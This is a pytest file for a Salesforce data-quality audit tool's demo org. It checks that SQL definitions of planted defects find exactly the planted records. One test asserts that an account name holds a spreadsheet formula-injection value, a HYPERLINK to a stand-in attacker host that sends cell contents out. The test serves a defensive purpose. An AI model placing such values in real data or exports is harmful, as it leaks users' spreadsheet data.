"""What was planted in records is there, and nothing else is wrong: each definition is written again as SQL."""

from collections.abc import Iterator

import phonenumbers
import pytest
from email_validator import EmailNotValidError, validate_email

from sf_audit.demo.company.build import Company

GONE = "OwnerId IN (SELECT Id FROM User WHERE NOT IsActive)"
LATE = "NOT IsClosed AND StageName IN ('Proposal/Price Quote', 'Negotiation/Review')"
PLACEHOLDER = "(?i)^(test|dummy|unknown|n/?a|tbd|asdf|xxx|sample)\\b"
QUEUED = "OwnerId IN (SELECT Id FROM \"Group\" WHERE Type = 'Queue')"
OF_A_CONTACT = "lower(Email) IN (SELECT lower(Email) FROM Contact)"

DISCONTINUED = "Product2Id IN (SELECT Id FROM Product2 WHERE NOT IsActive)"
SOLD = "OpportunityId IN (SELECT Id FROM Opportunity WHERE IsClosed)"


def on_circle(kind: str, lookup: str) -> str:
    """All circles of the demo org have two records."""
    return f'{lookup} IN (SELECT above.Id FROM "{kind}" AS above WHERE above.{lookup} = "{kind}".Id)'


DEFINITIONS = {
    "account-without-industry": ("Account", "Industry IS NULL"),
    "account-placeholder-name": ("Account", f"regexp_matches(Name, '{PLACEHOLDER}')"),
    "account-bad-website": ("Account", "NOT regexp_full_match(Website, 'https?://[\\w-]+(\\.[\\w-]+)+')"),
    "account-owner-inactive": ("Account", GONE),
    "account-no-billing-country": ("Account", "BillingCountry IS NULL"),
    "account-stale": (
        "Account",
        "Type = 'Customer - Direct' AND (LastActivityDate IS NULL OR LastActivityDate < DATE '2025-11-22')",
    ),
    "account-duplicate": (
        "Account",
        "(SELECT count(*) FROM Account AS other WHERE other.BillingCountry = Account.BillingCountry AND"
        " lower(trim(other.Name)) = lower(trim(Account.Name))) > 1",
    ),
    "contact-without-email": ("Contact", "Email IS NULL"),
    "contact-duplicate-email": (
        "Contact",
        "lower(Email) IN (SELECT lower(Email) FROM Contact WHERE Email IS NOT NULL GROUP BY 1 HAVING count(*) > 1)",
    ),
    "contact-without-account": ("Contact", "AccountId IS NULL"),
    "contact-owner-inactive": ("Contact", GONE),
    "lead-without-source": ("Lead", "LeadSource IS NULL"),
    "lead-placeholder-company": ("Lead", f"regexp_matches(Company, '{PLACEHOLDER}')"),
    "lead-owner-inactive": ("Lead", GONE),
    "lead-untouched": ("Lead", "Status = 'Open - Not Contacted' AND CreatedDate < TIMESTAMP '2026-10-23'"),
    "opportunity-close-date-past": ("Opportunity", "NOT IsClosed AND CloseDate < DATE '2026-11-22'"),
    "opportunity-stage-without-amount": ("Opportunity", f"{LATE} AND Amount IS NULL"),
    "opportunity-no-next-step": ("Opportunity", f"{LATE} AND NextStep IS NULL"),
    "opportunity-closed-lost-no-reason": ("Opportunity", "StageName = 'Closed Lost' AND Loss_Reason__c IS NULL"),
    "opportunity-owner-inactive": ("Opportunity", f"NOT IsClosed AND {GONE}"),
    "opportunity-no-contact-role": (
        "Opportunity",
        f"{LATE} AND Id NOT IN (SELECT OpportunityId FROM OpportunityContactRole)",
    ),
    "opportunity-negative-amount": ("Opportunity", "Amount < 0"),
    "case-without-contact": ("Case", "ContactId IS NULL"),
    "case-old-open": ("Case", "NOT IsClosed AND CreatedDate < TIMESTAMP '2026-09-23'"),
    "case-owner-inactive": ("Case", f"NOT IsClosed AND {GONE}"),
    "task-overdue": ("Task", "NOT IsClosed AND ActivityDate < DATE '2026-10-23'"),
    "failed-async-job": ("AsyncApexJob", "Status = 'Failed' AND CreatedDate > TIMESTAMP '2026-10-23'"),
    "async-job-with-errors": ("AsyncApexJob", "Status = 'Completed' AND NumberOfErrors > 0"),
    "trap-old-failed-job": ("AsyncApexJob", "Status = 'Failed' AND CreatedDate < TIMESTAMP '2026-10-23'"),
    "trap-closed-deal-of-leaver": ("Opportunity", f"IsClosed AND {GONE}"),
    "trap-closed-case-of-leaver": ("Case", f"IsClosed AND {GONE}"),
    "opportunity-won-in-future": ("Opportunity", "IsWon AND CloseDate > DATE '2026-11-23'"),
    "trap-won-today": ("Opportunity", "IsWon AND CloseDate = DATE '2026-11-22'"),
    "opportunity-won-without-amount": ("Opportunity", "IsWon AND Amount IS NULL"),
    "opportunity-won-with-zero": ("Opportunity", "IsWon AND Amount = 0"),
    "opportunity-parked": ("Opportunity", "NOT IsClosed AND CloseDate > DATE '2031-11-22'"),
    "opportunity-stuck": ("Opportunity", "NOT IsClosed AND LastStageChangeDate < TIMESTAMP '2026-05-26'"),
    "opportunity-without-account": ("Opportunity", "AccountId IS NULL"),
    "opportunity-won-before-created": ("Opportunity", "IsWon AND CloseDate < CreatedDate::DATE"),
    "trap-won-on-the-first-day": ("Opportunity", "IsWon AND CloseDate = CreatedDate::DATE"),
    "opportunity-next-step-cut-off": ("Opportunity", "length(NextStep) = 255"),
    "trap-long-next-step": ("Opportunity", "length(NextStep) BETWEEN 200 AND 254"),
    "account-in-circle": ("Account", on_circle("Account", "ParentId")),
    "contact-in-circle": ("Contact", on_circle("Contact", "ReportsToId")),
    "contact-email-bounced": ("Contact", "EmailBouncedDate IS NOT NULL"),
    "contact-without-country": ("Contact", "MailingStreet IS NOT NULL AND MailingCountry IS NULL"),
    "trap-contact-without-address": ("Contact", "MailingStreet IS NULL"),
    "lead-is-contact": ("Lead", f"NOT IsConverted AND {OF_A_CONTACT}"),
    "trap-converted-lead": ("Lead", f"IsConverted AND {OF_A_CONTACT}"),
    "lead-duplicate-email": (
        "Lead",
        "NOT IsConverted AND lower(Email) IN"
        " (SELECT lower(Email) FROM Lead WHERE NOT IsConverted GROUP BY 1 HAVING count(*) > 1)",
    ),
    "lead-unreachable": ("Lead", "Email IS NULL AND Phone IS NULL AND MobilePhone IS NULL"),
    "trap-lead-without-email": ("Lead", "Email IS NULL AND Phone IS NOT NULL"),
    "case-without-subject": ("Case", "Subject IS NULL OR length(Subject) < 5"),
    "case-left-in-queue": (
        "Case",
        f"NOT IsClosed AND {QUEUED} AND CreatedDate < TIMESTAMP '2026-11-08'",
    ),
    "campaign-ended": ("Campaign", "IsActive AND EndDate < DATE '2026-10-23'"),
    "trap-campaign-just-ended": ("Campaign", "IsActive AND EndDate BETWEEN DATE '2026-10-23' AND DATE '2026-11-21'"),
    "manager-has-left": (
        "User",
        "IsActive AND ManagerId IN (SELECT Id FROM User WHERE NOT IsActive)",
    ),
    "forecaster-without-role": ("User", "IsActive AND ForecastEnabled AND UserRoleId IS NULL"),
    "opportunity-certain": ("Opportunity", "NOT IsClosed AND Probability = 100"),
    "trap-nearly-certain": ("Opportunity", "Probability BETWEEN 90 AND 99"),
    "opportunity-not-in-forecast": ("Opportunity", f"{LATE} AND ForecastCategory = 'Omitted'"),
    "opportunity-open-for-years": ("Opportunity", "NOT IsClosed AND CreatedDate < TIMESTAMP '2024-11-22'"),
    "opportunity-without-source": ("Opportunity", "LeadSource IS NULL AND CreatedDate > TIMESTAMP '2025-11-22'"),
    "trap-old-deal-without-source": ("Opportunity", "LeadSource IS NULL AND CreatedDate < TIMESTAMP '2025-11-22'"),
    "line-of-discontinued-product": ("OpportunityLineItem", f"{DISCONTINUED} AND NOT {SOLD}"),
    "trap-line-of-a-closed-deal": ("OpportunityLineItem", f"{DISCONTINUED} AND {SOLD}"),
    "product-without-family": ("Product2", "IsActive AND Family IS NULL"),
    "product-without-price": (
        "Product2",
        "IsActive AND Id NOT IN (SELECT Product2Id FROM PricebookEntry WHERE IsActive)",
    ),
    "product-code-twice": (
        "Product2",
        "IsActive AND lower(ProductCode) IN"
        " (SELECT lower(ProductCode) FROM Product2 WHERE IsActive GROUP BY 1 HAVING count(*) > 1)",
    ),
    "task-without-subject": ("Task", "NOT IsClosed AND Subject IS NULL"),
    "task-about-nothing": ("Task", "WhoId IS NULL AND WhatId IS NULL"),
    "task-of-leaver": ("Task", f"NOT IsClosed AND {GONE}"),
    "lead-unread": ("Lead", "IsUnreadByOwner AND CreatedDate < TIMESTAMP '2026-11-15'"),
    "case-escalated-and-left": (
        "Case",
        "IsEscalated AND NOT IsClosed AND LastModifiedDate < TIMESTAMP '2026-11-15'",
    ),
    "case-below-closed-case": (
        "Case",
        'NOT IsClosed AND ParentId IN (SELECT Id FROM "Case" WHERE IsClosed)',
    ),
    "campaign-without-type": ("Campaign", "IsActive AND Type IS NULL"),
    "campaign-without-dates": ("Campaign", "IsActive AND (StartDate IS NULL OR EndDate IS NULL)"),
    "campaign-without-members": (
        "Campaign",
        "IsActive AND StartDate < DATE '2026-11-08' AND Id NOT IN (SELECT CampaignId FROM CampaignMember)",
    ),
    "user-shares-mailbox": (
        "User",
        'IsActive AND Email IN (SELECT Email FROM "User" WHERE IsActive GROUP BY 1 HAVING count(*) > 1)',
    ),
    "user-without-manager": ("User", "IsActive AND UserType = 'Standard' AND ManagerId IS NULL"),
    "user-without-department": ("User", "IsActive AND UserType = 'Standard' AND Department IS NULL"),
    "report-not-run": ("Report", "LastRunDate < TIMESTAMP '2025-11-22'"),
    "trap-report-not-run-yet": ("Report", "LastRunDate IS NULL"),
    "apex-class-old": ("ApexClass", "ApiVersion < 50"),
    "apex-trigger-old": ("ApexTrigger", "ApiVersion < 50 AND Status = 'Active'"),
    "permission-set-without-description": ("PermissionSet", "Type <> 'Profile' AND Description IS NULL"),
    "dormant-user": ("User", "IsActive AND LastLoginDate < TIMESTAMP '2026-08-24'"),
    "never-logged-in": (
        "User",
        "IsActive AND UserType = 'Standard' AND LastLoginDate IS NULL AND CreatedDate < TIMESTAMP '2026-10-23'",
    ),
}


def planted(company: Company, defect: str, kind: str = "") -> set[str]:
    return {one.id for one in company.planted if one.defect == defect and kind in ("", one.object)}


def found(company: Company, query: str) -> set[str]:
    return {record for (record,) in company.org.rows.execute(query).fetchall()}


@pytest.mark.parametrize("defect", DEFINITIONS)
def test_rows_with_the_defect_are_the_planted_ones(company: Company, defect: str) -> None:
    kind, condition = DEFINITIONS[defect]

    wrong = found(company, f'SELECT Id FROM "{kind}" WHERE {condition}')

    assert wrong == planted(company, defect)
    assert 2 <= len(wrong) <= 60


@pytest.mark.parametrize("kind", ["Account", "Contact", "Lead"])
def test_bad_phones_are_the_planted_ones(company: Company, kind: str) -> None:
    numbers = company.org.rows.execute(f"SELECT Id, Phone FROM {kind} WHERE Phone IS NOT NULL").fetchall()

    wrong = {record for record, number in numbers if not callable_number(number)}

    assert wrong == planted(company, f"{kind.lower()}-bad-phone")


def callable_number(number: str) -> bool:
    try:
        return phonenumbers.is_valid_number(phonenumbers.parse(number, None))
    except phonenumbers.NumberParseException:
        return False


def test_other_phones_can_be_called(company: Company) -> None:
    numbers = company.org.rows.execute("SELECT MobilePhone FROM Contact WHERE MobilePhone IS NOT NULL").fetchall()

    assert all(callable_number(number) for (number,) in numbers)


@pytest.mark.parametrize("kind", ["Contact", "Lead", "User"])
def test_bad_addresses_are_the_planted_ones(company: Company, kind: str) -> None:
    addresses = company.org.rows.execute(f'SELECT Id, Email FROM "{kind}" WHERE Email IS NOT NULL').fetchall()

    wrong = {record for record, address in addresses if not mailable(address)}

    assert wrong == planted(company, f"{kind.lower()}-bad-email")


def mailable(address: str) -> bool:
    try:
        validate_email(address, check_deliverability=False)
    except EmailNotValidError:
        return False
    return True


def inactive_values(company: Company) -> Iterator[tuple[str, str]]:
    for name, one in company.org.objects.items():
        for field in one.fields:
            if field.picklist and field.type in ("picklist", "combobox"):
                active = [value.value for value in field.picklist if value.active]
                query = (
                    f'SELECT Id FROM "{name}" WHERE "{field.name}" IS NOT NULL AND NOT list_contains(?, "{field.name}")'
                )
                for (record,) in company.org.rows.execute(query, [active]).fetchall():
                    yield name, record


def test_values_outside_the_active_ones_are_the_planted_ones(company: Company) -> None:
    wrong = set(inactive_values(company))

    assert wrong == {(one.object, one.id) for one in company.planted if one.defect == "picklist-inactive-value"}
    assert {kind for kind, _ in wrong} == {"Account", "Lead", "Case"}


def test_every_planted_record_exists(company: Company) -> None:
    for one in company.planted:
        if one.object not in ("CustomObject", "FieldDefinition", "Limit"):
            assert found(company, f"SELECT Id FROM \"{one.object}\" WHERE Id = '{one.id}'") == {one.id}


def test_record_has_at_most_one_defect(company: Company) -> None:
    hit = [(one.object, one.id) for one in company.planted if one.object not in ("User", "FieldDefinition", "Limit")]

    assert len(hit) == len(set(hit))


def test_hostile_text_is_kept_as_it_is(company: Company) -> None:
    names = found(company, "SELECT Name FROM Account")

    assert '=HYPERLINK("https://collect.evil-bikes.com/?"&A1,"Invoice")' in names
    assert "自転車工房 さくら" in names


def test_custom_fields_never_filled_are_the_planted_ones(company: Company) -> None:
    empty = set()
    for name, one in company.org.objects.items():
        for field in one.fields:
            if field.custom and not found(company, f'SELECT 1 FROM "{name}" WHERE "{field.name}" IS NOT NULL LIMIT 1'):
                empty.add(f"{name}.{field.name}")

    assert empty == planted(company, "custom-field-never-filled")


def test_custom_fields_without_description_are_the_planted_ones(company: Company) -> None:
    undescribed = {
        f"{name}.{field.name}"
        for name, one in company.org.objects.items()
        for field in one.fields
        if field.custom and not field.description
    }

    assert undescribed == planted(company, "custom-field-without-description")


def test_limits_above_eighty_per_cent_are_the_planted_ones(company: Company) -> None:
    near = {name for name, (most, left) in company.org.limits.items() if (most - left) / most >= 0.8}

    assert near == planted(company, "limit-near") == {"DataStorageMB", "DailyAsyncApexExecutions"}


def test_every_defect_but_traps_names_the_rule_that_finds_it(company: Company) -> None:
    unnamed = {one.defect for one in company.planted if not one.hint_rule and not one.defect.startswith("trap-")}

    assert unnamed == {"opportunity-closed-lost-no-reason"}
